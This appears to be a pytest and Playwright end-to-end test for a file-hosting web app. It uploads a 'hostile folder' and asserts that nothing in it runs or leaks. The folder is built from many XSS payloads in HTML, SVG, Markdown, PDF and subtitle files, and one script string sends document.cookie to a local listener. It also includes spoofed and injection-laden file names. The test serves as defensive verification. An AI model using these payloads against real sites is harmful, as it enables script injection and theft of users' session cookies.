"""A malicious folder: none of its scripts run, no other site learns who opens it, no token leaks."""

from __future__ import annotations

import socketserver
import threading
from collections.abc import Iterator
from typing import Any

import pytest

from tests.e2e.page.samples import make_pdf, make_zip
from tests.e2e.page.steps import fill_sign_in
from tests.support.service import ADMIN_PASSWORD, Service

FOLDER = "/files/hostile"
SCRIPT = "document.title='ran';parent.postMessage('ran','*');new Image().src='{there}/'+document.cookie;alert(1)"
PAGE = """<!doctype html><html><head><base href="{there}/"><link rel=stylesheet href="{there}/css">
<link rel=preconnect href="{there}"><link rel=prefetch href="{there}/prefetch"><link rel=icon href="{there}/icon">
<meta http-equiv=refresh content="0;url={there}/refresh"><style>@import url({there}/import); @font-face {{
font-family: x; src: url({there}/font) }} body {{ font-family: x; background: url({there}/background) }}</style></head>
<body background="{there}/body" onload="{script}"><h1 style="background: url({there}/style)">evil page</h1>
<script>{script}</script><script src="{there}/script.js"></script><img src="{there}/img" onerror="{script}">
<img srcset="{there}/srcset 1x"><picture><source srcset="{there}/picture"><img></picture>
<iframe src="{there}/iframe"></iframe><iframe srcdoc="<script>{script}</script>"></iframe>
<object data="{there}/object"></object><embed src="{there}/embed">
<video src="{there}/video" poster="{there}/poster"></video>
<audio src="{there}/audio" autoplay></audio><svg><image href="{there}/svg"/><use href="{there}/use#a"/></svg>
<form id=f action="{there}/form"><input name=a autofocus onfocus="{script}"><button>send</button></form>
<a id=out href="{there}/link" ping="{there}/ping">out</a><a id=run href="javascript:{script}">run</a>
<details open ontoggle="{script}">x</details><math><mtext><table><mglyph><style><!--</style>
<img title="--&gt;&lt;img src=1 onerror={script}&gt;"></table></body></html>"""
DRAWING = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="50" height="50"
onload="{script}"><script>{script}</script><image href="{there}/svg-image" width="5" height="5"/>
<foreignObject width="50" height="50"><body xmlns="http://www.w3.org/1999/xhtml"><img src="{there}/foreign"/></body>
</foreignObject><style>@import url({there}/svg-import);</style><rect width="50" height="50"/></svg>"""
TEXT = """# evil text

<script>{script}</script><img src=x onerror="{script}"><img src="{there}/md-html">
<style>@import url({there}/md-css)</style>
<iframe src="{there}/md-frame"></iframe><svg onload="{script}"><image href="{there}/md-svg"/></svg>
<form action="{there}/md-form"><button id=send formaction="{there}/md-form2">send</button></form>
<video src="{there}/md-video" poster="{there}/md-poster"></video><img srcset="{there}/md-srcset 1x">
<div style="background: url({there}/md-style)" onclick="{script}" id="page" class="hidden">box</div>
<a href="javascript:{script}">run</a> <a href="jAvA&Tab;script:{script}">run</a> <base href="{there}/">
<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror='{script}' src>">

[run](javascript:{script}) ![p]({there}/md-image) [d](data:text/html,<script>{script}</script>) <{there}/auto>
![x](x"onerror="{script})

```js"onload="{script}
code
```
"""
NAMES = [
    "<img src=x onerror=alert(1)>.txt",
    "<script>alert(1)<&sol;script>.md",
    "'\"><svg onload=alert(1)>.html",
    "{{constructor.constructor('alert(1)')()}}.txt",
    "%2e%2e%2f%00&amp;#x.txt",
    "javascript:alert(1).txt",
    "x" * 251 + ".txt",
    "é" * 125 + ".txt",
    "invoice\u202etxt.exe",
    "\u2067a\u2066b.png",
]


class Listener(socketserver.ThreadingTCPServer):
    """Keeps what is sent to it; a bare connection too."""

    daemon_threads = True

    def __init__(self) -> None:
        self.received: list[bytes] = []
        super().__init__(("127.0.0.1", 0), Keeper)
        self.address = f"http://127.0.0.1:{self.server_address[1]}"


class Keeper(socketserver.BaseRequestHandler):
    def handle(self) -> None:
        assert isinstance(self.server, Listener)
        self.server.received.append(b"connected")
        self.server.received.append(self.request.recv(10_000))


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    with Listener() as listener:
        threading.Thread(target=listener.serve_forever, daemon=True).start()
        yield listener
        listener.shutdown()


@pytest.fixture(scope="module")
def contents(service: Service, listener: Listener) -> dict[str, bytes]:
    """Return the contents of the folder by name."""
    values = {"there": listener.address, "script": SCRIPT.format(there=listener.address)}
    page, text = PAGE.format(**values).encode(), TEXT.format(**values).encode()
    action = f"/OpenAction << /S /URI /URI ({listener.address}/pdf) >>"
    contents = {
        "evil.html": page,
        "evil.xhtml": page,
        "evil.svg": DRAWING.format(**values).encode(),
        "evil.md": text,
        "evil.pdf": page,  # no PDF at all
        "open.pdf": make_pdf("evil paper", action),
        "evil.png": page,
        "evil.js": values["script"].encode(),
        "evil.xml": b"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='"
        + listener.address.encode()
        + b"/x'?><a/>",
        "evil.zip": make_zip({"<img src=x onerror=alert(1)>": b"x", "a/\u202etxt.exe": page}),
        "evil.webm": page,
        "evil.srt": f"1\n00:00:00,000 --> 00:00:09,000\n<img src={listener.address}/cue><c.x>word</c>\n".encode(),
    }
    for name in NAMES:
        contents[name] = text if name.endswith(".md") else page
    admin = service.client()
    for name, content in contents.items():
        answer = admin.put(f"{FOLDER}/{name}", content)
        assert answer["code"] == 200, (name, answer)
    admin.ok("/api/admin/meta/create", path=FOLDER, readme=text.decode(), header=text.decode())
    return contents


def test_a_hostile_folder_runs_nothing_and_leaks_nothing(
    page: Any, listener: Listener, contents: dict[str, bytes], errors: list[str]
) -> None:
    width = page.viewport_size["width"]
    dialogs: list[str] = []
    requested_urls: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: requested_urls.append(request.url))
    page.on("popup", lambda popup: dialogs.append(popup.url))
    page.goto(f"/@{FOLDER}")
    page.get_by_label("Stay signed in").check()  # the token is where a script of this origin would find it
    fill_sign_in(page, "admin", ADMIN_PASSWORD)
    page.get_by_role("row").nth(5).wait_for()
    token = page.evaluate("localStorage.getItem('mangrove.token')")
    assert len(token) > 20

    for name in contents:
        open_beside(page, name)
        if name.endswith((".html", ".xhtml")):
            inner = page.frame_locator("iframe").frame_locator("iframe")
            inner.get_by_text("evil page").wait_for()
            if name == "evil.html":
                for place in ("#run", "button", "#out"):
                    inner.locator(place).click(no_wait_after=True)
        elif name.endswith(".md"):
            page.get_by_role("heading", name="evil text").last.wait_for()
            for link in page.get_by_role("link", name="run").all():
                assert not (link.get_attribute("href") or "").startswith("javascript")
            assert (
                page.locator(".markdown :is(script, iframe, form, style, svg, video, [onclick], [style])").count() == 0
            )
        elif name.endswith(".txt"):
            page.get_by_text("evil page").first.wait_for()
        assert page.evaluate("document.documentElement.scrollWidth") == width, name
        assert page.title() != "ran"
        assert page.evaluate("document.querySelectorAll('[onerror], [onload]').length") == 0

    page.goto("/")  # all that was under way is settled
    page.get_by_role("grid").wait_for()
    assert listener.received == []
    assert dialogs == []
    assert not any(token in url for url in requested_urls)
    refused = ("Content Security Policy", "Failed to load resource", "Blocked script execution", "sandboxed")
    assert [error for error in errors if not any(text in error for text in refused)] == []
    errors.clear()  # the console reports refusals of the policy


def open_beside(page: Any, name: str) -> None:
    """Open a file of the folder by its address, without a new sign-in."""
    page.evaluate(
        "path => { history.pushState(null, '', path); dispatchEvent(new PopStateEvent('popstate')) }",
        f"/@{FOLDER}/" + encode(name),
    )
    page.get_by_role("link", name="Download", exact=True).wait_for()


def encode(name: str) -> str:
    from urllib.parse import quote

    return quote(name, safe="")


@pytest.mark.parametrize("page", ["wide"], indirect=True)
def test_what_is_stored_is_never_a_page_of_this_origin(page: Any, service: Service, contents: dict[str, bytes]) -> None:
    admin = service.client()
    for name in ("evil.html", "evil.svg", "evil.xhtml", "evil.xml", "evil.pdf"):
        headers = admin.bytes(f"{FOLDER}/{name}").headers
        assert headers["content-disposition"].startswith("attachment")
        assert headers["content-security-policy"].startswith("sandbox; default-src 'none'")
        assert headers["x-content-type-options"] == "nosniff"
        assert "set-cookie" not in headers
    raw = admin.ok("/api/fs/get", path=f"{FOLDER}/evil.html")["raw_url"]
    with page.expect_download():
        page.goto("/")
        page.evaluate("address => { location.href = address }", raw)
    assert page.title() != "ran"
